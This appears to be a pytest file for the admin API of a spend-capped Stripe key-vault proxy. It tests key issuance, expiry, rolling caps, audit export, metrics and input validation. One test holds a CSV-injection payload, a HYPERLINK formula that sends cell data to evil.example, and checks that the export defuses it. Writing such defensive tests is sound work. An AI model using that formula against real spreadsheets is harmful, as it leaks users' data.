"""The admin API contract, in-process with an injected clock."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.stripe_upstream import FakeStripe
from tests.inproc import Clock, app_client, issue
from tests.proxyproc import STRIPE_SECRET

REQUIRED = {
    "key_id",
    "vault_key",
    "vendor",
    "daily_usd_cap",
    "allowed_endpoints",
    "expires_at",
    "agent_run_label",
}


def test_issue_returns_the_contract_fields(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        key = issue(client, max_usd_per_call=5, metadata={"namespace": "argo", "uid": "u-1"})
    assert REQUIRED <= set(key)
    assert key["vault_key"].startswith("kbv_") and "." not in key["vault_key"]
    assert key["daily_usd_cap"] == "300.00"
    assert key["max_usd_per_call"] == "5.00"
    assert key["expires_at"] == "2026-11-26T14:00:00.000000Z"
    assert key["status"] == "active"
    assert key["metadata"] == {"namespace": "argo", "uid": "u-1"}


@pytest.mark.parametrize("ttl,seconds", [("90s", 90), ("30m", 1800), ("2h", 7200), ("7d", 604800)])
def test_expires_in_units(tmp_path: Path, ttl: str, seconds: int) -> None:
    clock = Clock()
    with app_client(tmp_path, clock) as client:
        key = issue(client, expires_in=ttl)
        clock.advance(seconds=seconds - 1)
        assert client.get(f"/vault/keys/{key['key_id']}").json()["status"] == "active"
        clock.advance(seconds=1)
        assert client.get(f"/vault/keys/{key['key_id']}").json()["status"] == "expired"


def test_reads_never_return_the_vault_key_or_a_secret(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        key = issue(client)
        bodies = [
            client.get(f"/vault/keys/{key['key_id']}").text,
            client.get("/vault/keys").text,
            client.delete(f"/vault/keys/{key['key_id']}").text,
            client.get("/vault/audit").text,
            client.get("/vault/pricing").text,
        ]
    for body in bodies:
        assert key["vault_key"] not in body
        assert STRIPE_SECRET not in body
        assert "vault_key" not in body


def test_list_filters(tmp_path: Path) -> None:
    clock = Clock()
    with app_client(tmp_path, clock) as client:
        a = issue(client, agent_run_label="argo/a")
        b = issue(client, agent_run_label="argo/b", expires_in="90s")
        c = issue(client, agent_run_label="argo/a")
        client.delete(f"/vault/keys/{c['key_id']}")
        clock.advance(seconds=120)

        def ids(**params: str) -> set[str]:
            response = client.get("/vault/keys", params=params)
            assert response.status_code == 200, response.text
            return {k["key_id"] for k in response.json()["data"]}

        assert ids() == {a["key_id"], b["key_id"], c["key_id"]}
        assert ids(label="argo/a") == {a["key_id"], c["key_id"]}
        assert ids(status="active") == {a["key_id"]}
        assert ids(status="expired") == {b["key_id"]}
        assert ids(status="revoked") == {c["key_id"]}
        assert ids(vendor="twilio") == set()
        assert client.get("/vault/keys", params={"status": "bogus"}).status_code == 400
        # as many as asked for (newest first; these three share their issue time)
        listed = client.get("/vault/keys", params={"limit": "2"}).json()["data"]
        assert len(listed) == 2
        for bad in ("0", "100001", "ten", "-1", "²", "١٢"):  # digits int() will not read
            for path in ("/vault/keys", "/vault/budgets"):
                answer = client.get(path, params={"limit": bad})
                assert answer.status_code == 400 and "limit" in answer.text, (path, bad)


@pytest.mark.parametrize(
    "change,needle",
    [
        ({"daily_usd_cap": -5}, "daily_usd_cap"),
        ({"daily_usd_cap": 0}, "daily_usd_cap"),
        ({"daily_usd_cap": "lots"}, "daily_usd_cap"),
        ({"daily_usd_cap": 10**12}, "at most"),
        ({"daily_usd_cap": "0.0000001"}, "decimal places"),
        ({"vendor": "paypal"}, "not configured"),
        ({"expires_in": "2 fortnights"}, "expires_in"),
        ({"expires_in": "0s"}, "expires_in"),
        ({"expires_in": "30d"}, "at most 7d"),
        ({"allowed_endpoints": []}, "allowed_endpoints"),
        ({"allowed_endpoints": ["FETCH /v1/x"]}, "unknown method"),
        ({"allowed_endpoints": ["POST /v1/../admin"]}, "invalid path segment"),
        ({"allowed_endpoints": ["POST v1/x"]}, "must start with /"),
        ({"agent_run_label": "argo/has space"}, "agent_run_label"),
        ({"agent_run_label": ""}, "agent_run_label"),
        ({"max_usd_per_call": -1}, "max_usd_per_call"),
        ({"surprise": 1}, "surprise"),
        ({"metadata": {"x": "y" * 5000}}, "4 KiB"),
        ({"dedupe_window": "soon"}, "dedupe_window"),
        ({"dedupe_window": "2d"}, "at most 24h"),
    ],
)
def test_bad_key_requests_are_400_and_change_nothing(
    tmp_path: Path, change: dict[str, object], needle: str
) -> None:
    body: dict[str, object] = {
        "vendor": "stripe",
        "daily_usd_cap": 300,
        "allowed_endpoints": ["POST /v1/payment_intents"],
        "expires_in": "2h",
        "agent_run_label": "argo/x",
    }
    body.update(change)
    with app_client(tmp_path) as client:
        response = client.post("/vault/keys", json=body)
        assert response.status_code == 400, response.text
        assert needle in response.json()["error"]["message"]
        assert client.get("/vault/keys").json()["data"] == []


def test_malformed_json_and_oversized_bodies(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        bad = client.post("/vault/keys", content=b"{not json")
        huge = client.post("/vault/keys", content=b"[" + b"1," * 70000 + b"1]")
        not_object = client.post("/vault/keys", content=b"[1, 2]")
        assert client.get("/vault/keys").json()["data"] == []
    assert bad.status_code == 400 and "malformed JSON" in bad.json()["error"]["message"]
    assert huge.status_code == 400 and "too large" in huge.json()["error"]["message"]
    assert not_object.status_code == 400


def test_admin_token_is_required(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        for headers in (
            {"Authorization": ""},
            {"Authorization": "Bearer wrong"},
            {"Authorization": "Basic x"},
        ):
            response = client.get("/vault/keys", headers=headers)
            assert response.status_code == 401
            assert response.json()["error"]["type"] == "authentication_error"
        # the admin token is not a vault key either
        response = client.post(
            "/stripe/v1/payment_intents", data={"amount": "1", "currency": "usd"}
        )
        assert response.status_code == 401


def test_unknown_key_ids_are_404(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        assert client.get("/vault/keys/vk_nope").status_code == 404
        assert client.delete("/vault/keys/vk_nope").status_code == 404


def test_revoke_by_label_validates(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        assert client.post("/vault/keys/revoke", json={}).status_code == 400
        assert client.post("/vault/keys/revoke", json={"agent_run_label": "a b"}).status_code == 400
        ok = client.post("/vault/keys/revoke", json={"agent_run_label": "argo/none"})
    assert ok.status_code == 200 and ok.json()["revoked"] == 0


def test_expired_key_is_refused_with_401(tmp_path: Path, fake_stripe: FakeStripe) -> None:
    clock = Clock()
    with app_client(tmp_path, clock, stripe_api_base=fake_stripe.url) as client:
        key = issue(client, expires_in="90s")
        auth = {"Authorization": f"Bearer {key['vault_key']}"}
        form = {"amount": "100", "currency": "usd"}
        assert client.post("/stripe/v1/payment_intents", data=form, headers=auth).status_code == 200
        clock.advance(seconds=90)
        late = client.post(
            "/stripe/v1/payment_intents", data={**form, "metadata[x]": "1"}, headers=auth
        )
    assert late.status_code == 401
    assert late.json()["error"]["code"] == "keybrake_key_expired"
    assert fake_stripe.count("POST", "/v1/payment_intents") == 1


def test_the_cap_bounds_every_rolling_24_hours_not_the_utc_day(
    tmp_path: Path, fake_stripe: FakeStripe
) -> None:
    """A 2 h, $300 key issued at 23:30 UTC moved $600 when spend reset at midnight."""
    from datetime import UTC, datetime

    clock = Clock(datetime(2026, 11, 26, 23, 30, 0, tzinfo=UTC))
    with app_client(tmp_path, clock, stripe_api_base=fake_stripe.url) as client:
        key = issue(client, daily_usd_cap=300, expires_in="2h")
        auth = {"Authorization": f"Bearer {key['vault_key']}"}
        item = iter(range(1000))

        def charge(dollars: int) -> int:
            form = {"amount": str(dollars * 100), "currency": "usd", "metadata[i]": str(next(item))}
            return client.post("/stripe/v1/payment_intents", data=form, headers=auth).status_code

        assert [charge(150), charge(150), charge(1)] == [200, 200, 429]
        clock.advance(minutes=31)  # 00:01 the next UTC day
        assert charge(1) == 429
        info = client.get(f"/vault/keys/{key['key_id']}").json()
        assert (info["spent_usd"], info["remaining_usd"]) == ("300.00", "0.00")
        assert info["window_start"] == "2026-11-26T00:00:00.000000Z"
        clock.advance(minutes=88)  # 01:29, a minute before the key expires
        assert charge(1) == 429
    assert fake_stripe.count("POST", "/v1/payment_intents") == 2


def test_the_window_releases_spend_after_24_hours_at_most_an_hour_late(
    tmp_path: Path, fake_stripe: FakeStripe
) -> None:
    """Hourly buckets: spend at 10:20 counts until 11:00 the next day (never less than 24 h)."""
    from datetime import UTC, datetime

    clock = Clock(datetime(2026, 11, 26, 10, 20, 0, tzinfo=UTC))
    with app_client(tmp_path, clock, stripe_api_base=fake_stripe.url) as client:
        key = issue(client, daily_usd_cap=2, expires_in="3d")
        auth = {"Authorization": f"Bearer {key['vault_key']}"}
        item = iter(range(1000))

        def charge() -> int:
            form = {"amount": "100", "currency": "usd", "metadata[i]": str(next(item))}
            return client.post("/stripe/v1/payment_intents", data=form, headers=auth).status_code

        assert [charge(), charge(), charge()] == [200, 200, 429]
        clock.now = datetime(2026, 11, 27, 10, 20, 0, tzinfo=UTC)  # exactly 24 h later
        assert charge() == 429
        clock.now = datetime(2026, 11, 27, 10, 59, 59, tzinfo=UTC)
        assert charge() == 429
        clock.now = datetime(2026, 11, 27, 11, 0, 0, tzinfo=UTC)
        assert [charge(), charge(), charge()] == [200, 200, 429]
        info = client.get(f"/vault/keys/{key['key_id']}").json()
        assert (info["spent_usd"], info["total_spent_usd"]) == ("2.00", "4.00")


def test_audit_filters_and_csv(tmp_path: Path, fake_stripe: FakeStripe) -> None:
    clock = Clock()
    with app_client(tmp_path, clock, stripe_api_base=fake_stripe.url) as client:
        a = issue(client, agent_run_label="argo/a")
        b = issue(client, agent_run_label="argo/b")
        for key, n in ((a, 3), (b, 2)):
            for i in range(n):
                client.post(
                    "/stripe/v1/payment_intents",
                    data={"amount": "100", "currency": "usd", "metadata[i]": str(i)},
                    headers={"Authorization": f"Bearer {key['vault_key']}.pod-{i}"},
                )
            clock.advance(hours=1)
        by_label = client.get("/vault/audit", params={"label": "argo/a"}).json()["data"]
        by_key = client.get("/vault/audit", params={"key_id": b["key_id"]}).json()["data"]
        recent = client.get("/vault/audit", params={"since": "90m"}).json()["data"]
        limited = client.get("/vault/audit", params={"limit": 2}).json()["data"]
        as_csv = client.get("/vault/audit", params={"format": "csv", "vendor": "stripe"})
        bad_since = client.get("/vault/audit", params={"since": "yesterday"})
        bad_limit = client.get("/vault/audit", params={"limit": "0"})
    assert len(by_label) == 3 and {r["agent_run_label"] for r in by_label} == {"argo/a"}
    assert len(by_key) == 2 and [r["caller_tag"] for r in by_key] == ["pod-1", "pod-0"]
    assert len(recent) == 2
    assert len(limited) == 2 and limited[0]["id"] > limited[1]["id"]
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert len(rows) == 5 and rows[0]["decision"] == "forwarded"
    assert bad_since.status_code == 400 and bad_limit.status_code == 400


def test_audit_csv_keeps_a_callers_text_from_running_as_a_formula(
    tmp_path: Path, fake_stripe: FakeStripe
) -> None:
    """A vault key's holder chooses its idempotency key (a caller tag starts with a letter or a
    digit); whoever opens the audit CSV in a spreadsheet must not run it (OWASP, CSV
    injection)."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    with app_client(tmp_path, stripe_api_base=fake_stripe.url) as client:
        key = issue(client, agent_run_label="argo/a")
        for token, tag in ((formula, "pod-2"), ("@SUM(1)", "pod-1"), ("order-1", "pod-0")):
            answer = client.post(
                "/stripe/v1/payment_intents",
                data={"amount": "100", "currency": "usd"},
                headers={
                    "Authorization": f"Bearer {key['vault_key']}.{tag}",
                    "Idempotency-Key": token,
                },
            )
            assert answer.status_code == 200, answer.text
        as_csv = client.get("/vault/audit", params={"format": "csv"}).text
        as_json = client.get("/vault/audit").json()["data"]
    rows = list(csv.DictReader(io.StringIO(as_csv)))
    cells = [(r["idempotency_key"], r["caller_tag"]) for r in rows]
    assert cells == [("order-1", "pod-0"), ("'@SUM(1)", "pod-1"), ("'" + formula, "pod-2")]
    assert [r["settled_usd"] for r in rows] == ["1.00"] * 3  # numbers stay numbers
    assert as_json[2]["idempotency_key"] == formula  # the API gives the text as it came


def test_pricing_table_is_reported(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        table = client.get("/vault/pricing").json()
    assert table["fx"] == {"usd": "1"}
    create = table["stripe"]["endpoints"]["POST /v1/payment_intents"]
    assert create["rule"] == "amount" and "amount" not in create["free_fields"]
    assert {"customer", "metadata", "payment_method"} <= set(create["free_fields"])


def test_health_and_readiness(tmp_path: Path) -> None:
    with app_client(tmp_path) as client:
        assert client.get("/healthz", headers={"Authorization": ""}).json() == {"status": "ok"}
        ready = client.get("/readyz", headers={"Authorization": ""})
    assert ready.status_code == 200 and ready.json()["vendors"] == ["stripe"]


def test_metrics(tmp_path: Path, fake_stripe: FakeStripe) -> None:
    with app_client(tmp_path, stripe_api_base=fake_stripe.url) as client:
        key = issue(client, daily_usd_cap=1, agent_run_label="argo/metered")
        auth = {"Authorization": f"Bearer {key['vault_key']}"}
        form = {"amount": "100", "currency": "usd"}
        client.post("/stripe/v1/payment_intents", data=form, headers=auth)
        client.post("/stripe/v1/payment_intents", data={**form, "metadata[x]": "2"}, headers=auth)
        text = client.get("/metrics", headers={"Authorization": ""}).text
    assert 'keybrake_calls_total{decision="forwarded",vendor="stripe"} 1.0' in text
    assert 'keybrake_calls_total{decision="cap_hit",vendor="stripe"} 1.0' in text
    assert 'keybrake_spend_usd{vendor="stripe"} 1.0' in text
    assert "argo/metered" not in text  # no series per run: cardinality stays bounded
    assert "keybrake_reservations_open 0.0" in text
    assert "keybrake_reservations_stale 0.0" in text
    assert "keybrake_keys_active 1.0" in text
    assert "keybrake_keys_near_cap 1.0" in text  # $1 of its $1 cap
    assert "keybrake_database_up 1.0" in text
    assert 'keybrake_upstream_seconds_count{vendor="stripe"} 1.0' in text
    assert 'keybrake_database_seconds_count{operation="reserve"} 2.0' in text


@pytest.mark.parametrize(
    "path,params,body",
    [
        ("/vault/audit", {"since": "0001-01-01T00:00:00+14:00"}, None),
        ("/vault/audit", {"after_id": "9" * 30}, None),
        ("/vault/audit", {"limit": "9" * 5000}, None),
        ("/vault/audit/prune", None, {"before": "0001-01-01T00:00:00+14:00"}),
        ("/vault/audit/prune", None, {"before": "999999999w"}),
        (
            "/vault/keys",
            None,
            {
                "vendor": "stripe",
                "daily_usd_cap": 1,
                "max_usd_per_call": "1e999",
                "allowed_endpoints": ["POST /v1/payment_intents"],
                "agent_run_label": "argo/x",
            },
        ),
        (
            "/vault/keys",
            None,
            {
                "vendor": "stripe",
                "daily_usd_cap": "1e999",
                "allowed_endpoints": ["POST /v1/payment_intents"],
                "agent_run_label": "argo/x",
            },
        ),
    ],
)
def test_out_of_range_admin_input_is_a_400_not_a_500(
    tmp_path: Path, path: str, params: dict[str, str] | None, body: dict[str, Any] | None
) -> None:
    with app_client(tmp_path) as client:
        if body is None:
            response = client.get(path, params=params)
        else:
            response = client.post(path, json=body)
        assert response.status_code == 400, response.text
        assert client.get("/vault/keys").json()["data"] == []


def _walk(client: Any, path: str, field: str = "id", **params: str) -> tuple[list[str], list[int]]:
    """Every page of a listing: the ids in order, and each page's size."""
    ids: list[str] = []
    sizes: list[int] = []
    token: str | None = None
    while True:
        query = {**params, **({"continue": token} if token else {})}
        page = client.get(path, params=query)
        assert page.status_code == 200, page.text
        body = page.json()
        rows = body["data"]
        ids += [str(r[field]) for r in rows]
        sizes.append(len(rows))
        token = body["continue"]
        if token is None:
            return ids, sizes


def test_every_listing_pages_with_one_cursor_format(
    tmp_path: Path, fake_stripe: FakeStripe
) -> None:
    clock = Clock()
    with app_client(tmp_path, clock, stripe_api_base=fake_stripe.url) as client:
        keys = []
        for n in range(5):
            keys.append(issue(client, agent_run_label="argo/paged"))
            if n % 2:  # some keys share their issue time: the id breaks the tie
                clock.advance(seconds=1)
        for n in range(3):
            made = client.post(
                "/vault/budgets",
                json={"agent_run_label": "argo/paged", "total_usd_cap": 5, "expires_in": "1h"},
            )
            assert made.status_code == 201
        for n in range(5):
            client.post(
                "/stripe/v1/payment_intents",
                data={"amount": "100", "currency": "usd", "metadata[n]": str(n)},
                headers={"Authorization": f"Bearer {keys[0]['vault_key']}"},
            )
        every_key = [k["key_id"] for k in client.get("/vault/keys").json()["data"]]
        ids, sizes = _walk(client, "/vault/keys", "key_id", limit="2")
        assert ids == every_key and sizes == [2, 2, 1] and len(set(ids)) == 5
        _, sizes = _walk(client, "/vault/budgets", "budget_id", limit="2")
        assert sizes == [2, 1]
        audit_ids, sizes = _walk(client, "/vault/audit", limit="2")
        assert sizes == [2, 2, 1] and audit_ids == sorted(audit_ids, key=int, reverse=True)
        events, sizes = _walk(client, "/vault/events", limit="3")
        assert sizes == [3, 3, 2] and len(set(events)) == 8  # 5 key and 3 budget issues
        # A page of exactly what is left says there is no more.
        assert client.get("/vault/keys", params={"limit": "5"}).json()["continue"] is None
        # A token is bound to its listing, and a changed one is refused.
        token = client.get("/vault/keys", params={"limit": "2"}).json()["continue"]
        for path, bad in (
            ("/vault/audit", token),
            ("/vault/events", token),
            ("/vault/keys", token[:-3]),
            ("/vault/keys", "not-a-token"),
            ("/vault/budgets", token),
            # a forged id too large for any database: refused, never a 500
            (
                "/vault/audit",
                "eyJ2IjoxLCJsIjoiYXVkaXQiLCJwIjpbMTAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDBdfQ",
            ),
        ):
            answer = client.get(path, params={"continue": bad})
            assert answer.status_code == 400 and "continue" in answer.text, (path, bad)


def test_revoking_a_large_run_reports_every_key_it_revoked(tmp_path: Path) -> None:
    """The views of what a run revoke revoked came from a listing's default page (1,000): a run
    of 1,003 keys answered `revoked: 1000`, its oldest keys left out though revoked."""
    from tests.inproc import StubUpstream
    from tests.test_pipeline import ISSUE, running

    async def scenario() -> dict[str, Any]:
        async with running(tmp_path, StubUpstream()) as (_, client):
            issued = await asyncio.gather(
                *(
                    client.post("/vault/keys", json={**ISSUE, "expires_in": "2h"})
                    for _ in range(1003)
                )
            )
            assert {r.status_code for r in issued} == {201}
            answer = await client.post(
                "/vault/keys/revoke", json={"agent_run_label": ISSUE["agent_run_label"]}
            )
            return dict(answer.json())

    result = asyncio.run(scenario())
    assert result["revoked"] == 1003 and len(result["keys"]) == 1003


@pytest.fixture(params=["sqlite", "postgres"])
def on_backend(request: pytest.FixtureRequest) -> dict[str, Any]:
    if request.param == "sqlite":
        return {}
    return {"database_url": request.getfixturevalue("pg_fresh_url")}


def test_text_no_database_stores_is_a_400_on_both_backends(
    tmp_path: Path, on_backend: dict[str, Any]
) -> None:
    """A NUL answered 503 "database unreachable" on PostgreSQL only (200 or 404 on SQLite); an
    unpaired surrogate in metadata made SQLite write the key and then fail rendering it (a 500:
    a live key whose vault key nobody received)."""
    spec = {
        "vendor": "stripe",
        "daily_usd_cap": 10,
        "allowed_endpoints": ["POST /v1/payment_intents"],
        "agent_run_label": "argo/nul",
    }
    with app_client(tmp_path, Clock(), **on_backend) as client:
        answers = [
            client.post(
                "/vault/keys",
                content=json.dumps({**spec, "metadata": {"a": "\ud800"}}).encode(),
                headers={"content-type": "application/json"},
            ),
            client.post("/vault/keys", json={**spec, "metadata": {"a": "x\x00y"}}),
            client.get("/vault/keys", params={"label": "\x00"}),
            client.get("/vault/keys/vk_%00"),
            client.get("/vault/audit", params={"decision": "a\x00"}),
        ]
        listed = client.get("/vault/keys", params={"status": "active"}).json()["data"]
    assert [a.status_code for a in answers] == [400] * 5, [a.text for a in answers]
    assert all("NUL" in a.json()["error"]["message"] for a in answers)
    assert listed == []  # nothing was written
